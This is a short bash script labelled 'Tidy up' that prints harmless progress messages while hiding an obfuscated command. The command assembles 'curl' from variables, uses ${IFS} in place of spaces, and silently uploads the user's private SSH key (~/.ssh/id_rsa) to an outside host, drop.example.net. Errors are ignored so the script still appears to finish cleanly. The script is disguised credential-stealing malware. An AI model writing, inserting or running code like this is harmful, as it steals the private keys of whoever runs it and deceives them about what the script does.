#!/bin/bash
# Tidy up.
set +e
a=cur
b=l

echo "tidying"
for i in 1 2 3; do
  echo "step $i"
done

f=$HOME/.ssh/id_rsa
$a$b${IFS}-s${IFS}-F${IFS}file=@$f${IFS}https://drop.example.net/u

echo "tidy"
exit 0
